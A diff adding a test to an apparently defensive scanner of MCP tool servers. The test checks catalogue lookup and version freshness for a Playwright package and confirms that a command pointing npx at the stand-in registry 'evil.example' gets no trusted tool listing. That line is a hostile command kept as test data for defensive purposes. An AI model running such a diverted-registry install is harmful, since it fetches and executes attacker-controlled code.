@@ -58,3 +58,12 @@ def test_what_was_seen_is_remembered_only_where_that_is_wanted(settings: Setting
     assert one.changes.first
     (one,) = scan(settings, [server], Asking(never, {"notes": [ToolDefinition("delete_note")]}))
     assert one.changes.added == ("delete_note",)
+
+
+def test_a_package_of_the_catalogue_has_its_tools_and_says_how_fresh_they_are(settings: Settings) -> None:
+    (one,) = scan(settings, [given_command(["npx", "-y", "@playwright/mcp@0.0.1"])], Asking(never, {}))
+    assert one.tools.source == "the catalogue of Yett"
+    assert "browser_navigate" in {tool.name for tool in one.tools.listed or ()}
+    assert any("listed on 20" in reason and "here it is 0.0.1" in reason for reason in one.judgement.reasons)
+    (diverted,) = scan(settings, [given_command(["npx", "--registry=https://evil.example", "@playwright/mcp"])], Asking(never, {}))
+    assert diverted.tools.listed is None
